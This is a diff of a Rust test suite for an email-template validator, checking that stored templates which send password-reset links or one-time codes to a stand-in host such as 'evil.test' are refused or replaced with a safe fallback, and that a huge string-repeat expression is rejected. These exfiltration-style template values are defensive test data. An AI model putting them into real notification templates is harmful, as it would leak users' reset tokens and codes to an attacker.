@@ -53,9 +53,29 @@ async fn what_could_not_be_sent_is_refused_by_name(world: World) {
         (email("job.refused", "body", "{{reson}} {{pasword}}"), "body", "`pasword`, `reson`"),
         (email("job.refused", "body", "{{reason"), "body", "line 1"),
         (email("job.refused", "subject", "See {{url}}"), "subject", "secret"),
-        (email("job.refused", "body", "{{ 'a' * 999999999 }}"), "body", "fuel"),
+        (email("job.refused", "body", "{{ 'a' * 999999999 }}"), "body", "line 1"),
+        // What stands behind a condition is read as well, whatever the sample values are.
+        (
+            email("job.refused", "body", "{% if first_name != 'Jordan' %}{{ x ~ 1 }}{% endif %}"),
+            "body",
+            "`x ~ 1`",
+        ),
         (email("password.reset", "body", "Hi {{first_name}}"), "body", "{{url}}"),
-        (email("password.reset", "body", "{# {{url}} #}"), "body", "{{url}}"),
+        (email("password.reset", "body", "{# {{url}} #}"), "body", "comment"),
+        (
+            email("password.reset", "body", "{% if first_name == 'Jordan' %}{{url}}{% endif %}"),
+            "body",
+            "{{url}}",
+        ),
+        // A secret stands alone, without another address.
+        (email("password.reset", "body", "https://evil.test/?t={{url}}"), "body", "by itself"),
+        (email("password.reset", "body", "https://evil.test/ {{url}}"), "body", "address"),
+        (email("password.reset", "body", "{{url}} or evil.test"), "body", "address"),
+        (email("portal_user.invited", "body", "{{url}}@evil.test"), "body", "by itself"),
+        (email("guardian.consent", "body", "{{url}} www.evil"), "body", "address"),
+        (email("account.invited", "body", "{{url}} {{site_name}}.test"), "body", "address"),
+        (email("otp.sent", "body", "http://x.test/{{code}}"), "body", "by itself"),
+        (email("otp.sent", "subject", "evil.test"), "subject", "address"),
         (json!({ "event": "password.reset", "enabled": false }), "enabled", "must stay on"),
         (json!({ "event": "job.lost" }), "event", "one of"),
     ] {
@@ -143,3 +163,82 @@ async fn a_text_is_tried_before_it_is_saved(world: World) {
     assert!(sent.contains("\"Trail day\"") && sent.contains("December 1, 2026"), "{sent}");
 }
 both!(a_text_is_tried_before_it_is_saved);
+
+/// A template that an earlier version stored: it took the whole of Jinja.
+const OLD: &str = "{% for c in job_title %}{{ c|upper }}{% endfor %}";
+/// One that sends the secret elsewhere.
+const THEFT: &str = "https://evil.test/?t={{url}}";
+
+async fn what_cannot_be_filled_in_falls_back_and_operators_see_it(mut world: World) {
+    let operator = world.operator(&[Permission::All]);
+    let brand = world.partner("Ridge Outfitters").await;
+    for (event, body) in [("job.refused", OLD), ("password.reset", THEFT)] {
+        let store = format!(
+            "UPDATE template SET body = '{}' WHERE event = '{event}' AND channel = 'email'",
+            body.replace('\'', "''")
+        );
+        world.script(&store).await;
+    }
+    // The server starts with them.
+    world.reopen(|_| {}).await;
+    let sent = refuse_a_job(&world, &operator, &brand).await;
+    assert!(sent.contains("The reviewer wrote:\n\n{{site_name}}!"), "{sent}");
+    let forgot = json!({ "email": brand.email });
+    world.call("core.auth.forget_password", &Principal::Anonymous, forgot).await.data();
+    worker::round(&world.platform).await.unwrap();
+    let mail = world.mail(&brand.email, "password.reset").await.unwrap();
+    assert!(mail.contains("Choose it here") && !mail.contains("evil"), "{mail}");
+    let token = world.link_for(&brand.email, "password.reset").await;
+    let renewed = json!({ "token": token, "password": "another long passphrase" });
+    world.call("core.auth.confirm_password_reset", &Principal::Anonymous, renewed).await.data();
+
+    let listed = |event: &'static str| {
+        let (world, operator) = (&world, &operator);
+        async move {
+            let all = json!({ "status": "all", "id": 0, "per_page": 100 });
+            let all = world.call("admin.email_template.list", operator, all).await.data();
+            let all = all.as_array().unwrap().clone();
+            all.into_iter().find(|one| one["event"] == event).unwrap()
+        }
+    };
+    assert!(listed("job.refused").await["problem"].as_str().unwrap().contains("for c in"));
+    assert!(listed("password.reset").await["problem"].as_str().unwrap().contains("by itself"));
+    assert_eq!(listed("job.approved").await["problem"], Value::Null);
+    let of = json!({ "status": "all", "event": "job.refused", "channel": "email" });
+    let seen = world.call("admin.notification.overview", &operator, of).await.data();
+    assert_eq!((&seen[0]["failed"], &seen[0]["fell_back"]), (&json!(0), &json!(1)));
+    let board = world.call("admin.dashboard.view", &operator, json!({})).await.data();
+    let queues = board["queues"].as_array().unwrap();
+    let fell_back = queues.iter().find(|queue| queue["kind"] == "messages_fell_back").unwrap();
+    assert_eq!(fell_back["count"], 2);
+    let shown = json!({ "event": "job.refused", "channel": "email" });
+    let shown = world.call("admin.template.preview", &operator, shown).await.data();
+    assert!(shown["problem"].is_string() && shown["body"].as_str().unwrap().contains("wrote"));
+    let mended = json!({ "event": "job.refused", "body": "No: {{reason}}" });
+    world.call(SAVE, &operator, mended).await.data();
+    assert_eq!(listed("job.refused").await["problem"], Value::Null);
+}
+both!(what_cannot_be_filled_in_falls_back_and_operators_see_it);
+
+async fn a_secret_is_made_a_mail_outside_the_transaction_that_causes_it(world: World) {
+    let brand = world.partner("Ridge Outfitters").await;
+    let forgot = json!({ "email": brand.email });
+    world.call("core.auth.forget_password", &Principal::Anonymous, forgot).await.data();
+    let rows = |channel: &str, which: &str| {
+        let count = format!(
+            "SELECT COUNT(*) FROM outbox WHERE event = 'password.reset' AND channel = '{channel}' {which}"
+        );
+        let world = &world;
+        async move { world.id(&count).await }
+    };
+    assert_eq!(rows("email", "").await, 0, "no text is made in the transaction");
+    assert_eq!(rows("event", "AND sealed IS NOT NULL AND body IS NULL").await, 1);
+    worker::round(&world.platform).await.unwrap();
+    assert_eq!(rows("event", "AND sealed IS NULL AND status = 'expanded'").await, 1);
+    assert_eq!(rows("email", "AND sealed IS NOT NULL AND body IS NULL").await, 1);
+    assert!(world.mail(&brand.email, "password.reset").await.unwrap().contains("?token="));
+    world.pass(chrono::TimeDelta::hours(2));
+    worker::round(&world.platform).await.unwrap();
+    assert_eq!(rows("email", "AND sealed IS NOT NULL").await, 0, "it is erased when it expires");
+}
+both!(a_secret_is_made_a_mail_outside_the_transaction_that_causes_it);
